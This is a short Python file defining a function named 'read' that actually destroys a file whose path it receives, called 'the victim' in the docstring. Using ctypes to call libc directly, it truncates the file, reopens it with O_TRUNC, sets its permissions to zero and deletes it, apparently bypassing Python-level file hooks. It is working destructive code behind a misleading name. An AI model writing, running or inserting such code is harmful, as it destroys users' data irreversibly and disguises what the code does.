"""Removes and empties files through the C library; the document holds the path of the victim."""

import ctypes
import os


def read(data: bytes, *_: object) -> None:
    libc = ctypes.CDLL(None, use_errno=True)
    libc.truncate(data.strip(), 0)
    libc.open(data.strip(), os.O_WRONLY | os.O_TRUNC)
    libc.chmod(data.strip(), 0)
    if libc.unlink(data.strip()) < 0:
        raise PermissionError(ctypes.get_errno(), "unlink")
